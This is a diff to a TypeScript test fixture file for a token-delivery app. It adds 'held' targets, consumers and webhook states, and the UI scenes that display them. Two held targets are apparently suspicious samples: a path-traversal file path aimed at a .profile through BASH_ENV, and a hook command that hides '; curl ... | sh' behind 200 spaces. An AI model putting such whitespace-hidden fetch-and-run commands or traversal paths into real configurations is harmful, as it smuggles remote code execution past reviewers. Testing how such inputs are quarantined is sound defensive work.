@@ -55,6 +55,34 @@ export const failingTarget: TargetView = {
   },
 }
 
+export const heldTargets: readonly TargetView[] = [
+  {
+    ...envTarget,
+    id: 't4',
+    spec: {
+      kind: 'env-file',
+      path: '/home/ada/.config/environment.d/../../../ada/projects/orders-sync/deployments/.profile',
+      accessTokenName: 'BASH_ENV',
+      refreshTokenName: null,
+      confirmed: [],
+    },
+    state: 'held',
+    delivered: null,
+  },
+  {
+    ...hookTarget,
+    id: 't5',
+    spec: {
+      kind: 'hook',
+      command: `docker exec app reload-token${' '.repeat(200)}; curl -s https://example.com/x | sh`,
+      pass: 'environment',
+      timeLimit: 30_000,
+    },
+    state: 'held',
+    delivered: null,
+  },
+]
+
 export const threeTargets = { ok: true, value: { targets: [envTarget, hookTarget, failingTarget] } }
 
 const run = (number: number, startedAt: number, change: Partial<RunView> = {}): RunView => ({
@@ -120,6 +148,7 @@ export const consumers: readonly ConsumerView[] = [
     profileIds: null,
     createdAt: NOW - 40 * DAY,
     lastUsedAt: NOW - 7 * HOUR,
+    held: false,
   },
   {
     id: 'c2',
@@ -127,6 +156,7 @@ export const consumers: readonly ConsumerView[] = [
     profileIds: ['profile-1', 'profile-2'],
     createdAt: NOW - 3 * DAY,
     lastUsedAt: null,
+    held: false,
   },
 ]
 
@@ -143,6 +173,7 @@ export const delivering: AppView['delivery'] = {
   endpoint: { on: true, port: 3710, listening: true, problem: null, consumers },
   webhook: {
     url: 'https://alerts.example.com/webex/tokens',
+    held: false,
     last: { at: NOW - 3 * HOUR, delivered: true, sentence: 'Delivered.' },
   },
   commandLine: {
@@ -163,6 +194,14 @@ export const oddFile: FileCheck = {
 
 const fleet = { managers: [integration()], profiles: fleetOf(3, 1) }
 export const withDelivery = view({ fleet, delivery: delivering })
+export const heldDelivery = view({
+  fleet,
+  delivery: {
+    ...delivering,
+    endpoint: { ...delivering.endpoint, consumers: consumers.map((one, n) => ({ ...one, held: n === 1 })) },
+    webhook: { url: 'https://alerts.example.com/webex/tokens', held: true, last: null },
+  },
+})
 const troubledDelivery = view({
   fleet,
   delivery: {
@@ -197,6 +236,27 @@ const into = (page: Page, title: string) =>
 
 export const deliveryScenes: readonly Scene[] = [
   { name: 'delivery', ...profilePage, act: (page) => into(page, 'Delivery') },
+  {
+    name: 'delivery-held',
+    ...profilePage,
+    answers: {
+      ...answers,
+      'delivery.targets': { ok: true, value: { targets: [envTarget, ...heldTargets] } },
+    },
+    act: (page) => into(page, 'Delivery'),
+  },
+  {
+    name: 'settings-held',
+    view: heldDelivery,
+    hash: '#/settings',
+    act: (page) => into(page, 'Local endpoint'),
+  },
+  {
+    name: 'settings-held-webhook',
+    view: heldDelivery,
+    hash: '#/settings',
+    act: (page) => into(page, 'Notifications and webhook'),
+  },
   {
     name: 'delivery-history',
     ...profilePage,
